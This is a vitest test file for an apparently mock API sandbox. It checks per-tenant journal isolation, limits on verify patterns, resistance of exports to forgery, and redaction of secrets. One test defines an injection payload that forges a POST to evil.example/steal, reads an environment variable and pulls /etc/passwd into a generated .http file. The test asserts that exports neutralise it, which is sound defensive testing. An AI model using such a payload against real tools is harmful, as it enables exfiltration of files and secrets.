import { describe, expect, it } from 'vitest';
import type { Express } from 'express';
import { createControlClient, startServer } from '../../src/index.js';
import { bearer, http, testApp, tokenFor } from '../support/test-app.js';

// Issue 30's campaign against a shared sandbox, the journal's part: what one party sends cannot evict another
// tenant's evidence, hold the event loop through verify, forge an export, or show a secret.

describe('a journal per tenant', () => {
  it('GETs without a token, more than a journal holds, do not evict tenant A’s entries: its verify, report and HAR stay whole', async () => {
    // the ring's size is not the point: 100 entries a ring, flooded by 250 requests no tenant owns
    const fake = await startServer({
      controlToken: 'operator-secret',
      journalSize: 100,
      clients: [{ client_id: 'a', client_secret: 'a-secret' }],
    });
    try {
      const token = await fake.token('a');
      for (let i = 0; i < 4; i++)
        expect((await fetch(`${fake.url}/v1/assets`, { headers: bearer(token) })).status).toBe(200);
      for (let batch = 0; batch < 5; batch++) {
        const statuses = await Promise.all(
          Array.from({ length: 50 }, async () => (await fetch(`${fake.url}/v1/assets`)).status),
        );
        expect(new Set(statuses)).toEqual(new Set([401]));
      }
      const asOperator = createControlClient({ url: fake.url, controlToken: 'operator-secret', clientId: 'a' });
      expect((await asOperator.verify({ operation: 'listAssets' }, { exactly: 4 })).matched).toBe(4);
      expect((await asOperator.report()).requests_seen).toBe(5);
      expect(
        (JSON.parse(await asOperator.exportRequests('har')) as { log: { entries: unknown[] } }).log.entries,
      ).toHaveLength(5);
      expect(await asOperator.requests()).toHaveLength(5);
      // the requests no tenant owns have a ring of their own; the operator's list of every ring shows the newest 100
      const all = await createControlClient({ url: fake.url, controlToken: 'operator-secret' }).requests();
      expect(all).toHaveLength(100);
      expect(all.every((e) => e.client_id === null)).toBe(true);
    } finally {
      await fake.stop();
    }
  });

  it('each ring is bounded by JOURNAL_SIZE, for the requests no tenant owns too', async () => {
    const app = testApp({ journalSize: 3 });
    const token = await tokenFor(app);
    for (let i = 0; i < 5; i++) await http(app).get('/v1/assets').set(bearer(token));
    for (let i = 0; i < 5; i++) await http(app).get('/v1/assets');
    const tenant = (await http(app).get('/__control/requests?client_id=sandbox-client')).body.data as unknown[];
    expect(tenant).toHaveLength(3);
    const everyone = (await http(app).get('/__control/requests')).body.data as { client_id: string | null }[];
    expect(everyone.map((e) => e.client_id)).toEqual([null, null, null]);
  });
});

describe('verify is bounded', () => {
  const verify = (app: Express, request: unknown) => http(app).post('/__control/verify').send({ request });

  it('refuses a pattern of 20,000 query keys at once, 422 pattern_too_large naming the limit', async () => {
    const app = testApp();
    await tokenFor(app);
    const query = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, 'v']));
    await verify(app, { method: 'POST' }).expect(200); // the operation's validator is compiled on its first request
    const started = performance.now();
    const response = await verify(app, { query });
    const elapsed = performance.now() - started;
    expect(response.status).toBe(422);
    expect(response.body).toMatchObject({
      code: 'pattern_too_large',
      errors: [{ path: '/request/query', message: 'query has more than 100 parameters' }],
    });
    expect(response.body.detail).toContain('more than 100 parameters');
    // 19.8 s of a blocked event loop before the limit; well under a second now, even on a busy machine
    expect(elapsed).toBeLessThan(2000);
  });

  it('refuses a body pattern too deep, with too many members, or too large; takes one within the limits', async () => {
    const app = testApp();
    await tokenFor(app);
    let deep: unknown = 1;
    for (let i = 0; i < 17; i++) deep = { a: deep };
    expect((await verify(app, { body: deep })).body).toMatchObject({
      code: 'pattern_too_large',
      detail: expect.stringContaining('more than 16 levels deep'),
    });
    const wide = { items: Array.from({ length: 1001 }, () => 0) };
    expect((await verify(app, { body: wide })).body.detail).toContain('more than 1000 members and array items');
    expect((await verify(app, { body: { a: 'x'.repeat(20_000) } })).body.detail).toMatch(
      /is \d+ bytes as JSON, more than 16384/,
    );
    expect((await verify(app, { body: { grant_type: 'client_credentials' } })).status).toBe(200);
  });

  it('the library refuses the same patterns (no validator in front of it)', async () => {
    const fake = await startServer();
    try {
      const query = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, 'v']));
      expect(() => fake.verify({ query })).toThrow(/query has more than 100 parameters/);
    } finally {
      await fake.stop();
    }
  });
});

describe('exports cannot be forged by what was sent', () => {
  const FORGED =
    '\n###\nPOST http://evil.example/steal\nX: {{$processEnv HOME}}\n\n< /etc/passwd\n> {% client.global.set("x", 1) %}\n';

  it('a broken JSON body with raw newlines, a form and a JSON string open no block of their own and reach no variable', async () => {
    const app = testApp();
    const token = await tokenFor(app);
    await http(app)
      .post('/v1/accounts')
      .set(bearer(token))
      .set('Content-Type', 'application/json')
      .send(`{"first_name": "x${FORGED}`)
      .expect(400);
    await http(app)
      .post('/v1/accounts')
      .set(bearer(token))
      .set('Content-Type', 'application/x-www-form-urlencoded')
      .send(`first_name=a${FORGED}`);
    await http(app)
      .post('/v1/accounts')
      .set(bearer(token))
      .set('Content-Type', 'application/json')
      .send(JSON.stringify({ first_name: '{{$processEnv HOME}}', note: FORGED }));
    await http(app).post('/v1/accounts').set(bearer(token)).set('Content-Type', 'text/plain').send(FORGED);
    const file = (await http(app).get('/__control/export?format=http')).text;
    const blocks = file.split('\n').filter((line) => line.startsWith('###'));
    expect(blocks).toHaveLength(5); // the token request and the four above
    expect(blocks.every((line) => /^### \d+: /.test(line))).toBe(true);
    expect(file).not.toMatch(/^\s*[<>]/m);
    expect(file).not.toContain('{{$processEnv');
    expect(file).not.toMatch(/^POST http:\/\/evil/m);
    // the JSON body is sent as it was (the same value), the form field by field
    expect(file).toContain('{"first_name":"{\\u007b$processEnv HOME}}","note":"\\n###\\nPOST');
    expect(file).toMatch(/^first_name=a%0A%23%23%23%0APOST\+http/m);
  });
});

describe('secrets are redacted by name at any depth, of any type', () => {
  it('numbers, arrays, objects under secret-looking names, and ?jwt= and ?api_key=, in HAR, .http and the journal', async () => {
    const app = testApp();
    const token = await tokenFor(app);
    const body = {
      first_name: 'Ada',
      password: 12345678,
      client_secret: ['s3cret-in-array'],
      api_token: { nested: 'deep-secret-value' },
      profile: { pin: 1, private_key: true, jwt: 'eyJ-in-body' },
    };
    await http(app).post('/v1/accounts').set(bearer(token)).send(body);
    await http(app).get('/v1/assets?jwt=eyJ-in-query&api_key=key-in-query&limit=5').set(bearer(token));
    await http(app).get('/v1/assets').query({ note: token }).set(bearer(token));
    const har = (await http(app).get('/__control/export?format=har')).text;
    const dotHttp = (await http(app).get('/__control/export?format=http')).text;
    const listed = JSON.stringify((await http(app).get('/__control/requests')).body);
    for (const exported of [har, dotHttp, listed]) {
      for (const secret of [
        '12345678',
        's3cret-in-array',
        'deep-secret-value',
        'eyJ-in-body',
        'eyJ-in-query',
        'key-in-query',
        token,
        'sandbox-secret',
      ]) {
        expect(exported).not.toContain(secret);
      }
    }
    const entries = (
      JSON.parse(har) as {
        log: {
          entries: { request: { postData?: { text: string }; queryString: { name: string; value: string }[] } }[];
        };
      }
    ).log.entries;
    expect(JSON.parse(entries[1]!.request.postData!.text)).toEqual({
      first_name: 'Ada',
      password: '[redacted]',
      client_secret: '[redacted]',
      api_token: '[redacted]',
      profile: { pin: 1, private_key: '[redacted]', jwt: '[redacted]' },
    });
    expect(entries[2]!.request.queryString).toEqual([
      { name: 'jwt', value: '[redacted]' },
      { name: 'api_key', value: '[redacted]' },
      { name: 'limit', value: '5' },
    ]);
    expect(entries[3]!.request.queryString).toEqual([{ name: 'note', value: '[redacted]' }]);
  });

  it("a token or the client's secret pasted into a field is redacted where a later answer echoes it, by id and in every export", async () => {
    const app = testApp();
    const token = await tokenFor(app);
    const created = await http(app)
      .post('/v1/accounts')
      .set(bearer(token))
      .send({ type: 'individual', external_id: 'sandbox-secret', first_name: token })
      .expect(201);
    const read = await http(app).get(`/v1/accounts/${created.body.id}`).set(bearer(token)).expect(200);
    expect(read.body.first_name).toBe(token);
    const ids = ((await http(app).get('/__control/requests')).body as { data: { id: string }[] }).data.map(
      (entry) => entry.id,
    );
    const byId = await Promise.all(
      ids.map(async (id) => JSON.stringify((await http(app).get(`/__control/requests/${id}`)).body)),
    );
    const exports = await Promise.all(
      ['har', 'http', 'pact', 'vitest'].map(
        async (format) => (await http(app).get(`/__control/export?format=${format}`)).text,
      ),
    );
    for (const shown of [...byId, ...exports]) {
      expect(shown).not.toContain(token);
      expect(shown).not.toContain(token.split('.')[2]);
      expect(shown).not.toContain('sandbox-secret');
    }
  });

  it("an older token of the client, or another issuer's, pasted into a query or a field is redacted by its shape wherever it shows", async () => {
    const app = testApp();
    const older = await tokenFor(app);
    const token = await tokenFor(app);
    expect(token).not.toBe(older);
    const foreign = `${Buffer.from('{"alg":"HS256","typ":"JWT"}').toString('base64url')}.${Buffer.from('{"sub":"someone-else"}').toString('base64url')}.c2lnbmF0dXJlLW9mLWFub3RoZXItaXNzdWVy`;
    const created = await http(app)
      .post('/v1/accounts')
      .set(bearer(token))
      .send({ type: 'individual', first_name: foreign, last_name: older.slice(0, 40) })
      .expect(201);
    await http(app).get(`/v1/accounts/${created.body.id}`).set(bearer(token)).expect(200);
    await http(app).get('/v1/assets').query({ note: older }).set(bearer(token));
    const ids = ((await http(app).get('/__control/requests')).body as { data: { id: string }[] }).data.map(
      (entry) => entry.id,
    );
    const byId = await Promise.all(
      ids.map(async (id) => JSON.stringify((await http(app).get(`/__control/requests/${id}`)).body)),
    );
    const exports = await Promise.all(
      ['har', 'http', 'pact', 'vitest'].map(
        async (format) => (await http(app).get(`/__control/export?format=${format}`)).text,
      ),
    );
    for (const shown of [...byId, ...exports]) {
      for (const secret of [older, token, foreign]) expect(shown).not.toContain(secret.split('.')[2]);
    }
    // an ordinary value that merely begins like one stays
    expect(byId.join('')).toContain(older.slice(0, 40));
  });

  it('an answer with no secret in its document is shown as sent: AWAITING_TOKEN_DELIVERY stays', async () => {
    const app = testApp();
    const token = await tokenFor(app);
    const orders = await http(app)
      .get('/v1/orders?order_status=AWAITING_TOKEN_DELIVERY&limit=1')
      .set(bearer(token))
      .expect(200);
    const har = (await http(app).get('/__control/export?format=har')).body as {
      log: { entries: { response: { content: { text?: string } } }[] };
    };
    expect(har.log.entries[1]!.response.content.text).toBe(JSON.stringify(orders.body));
    expect(har.log.entries[0]!.response.content.text).toContain('"access_token":"[redacted]"');
  });
});
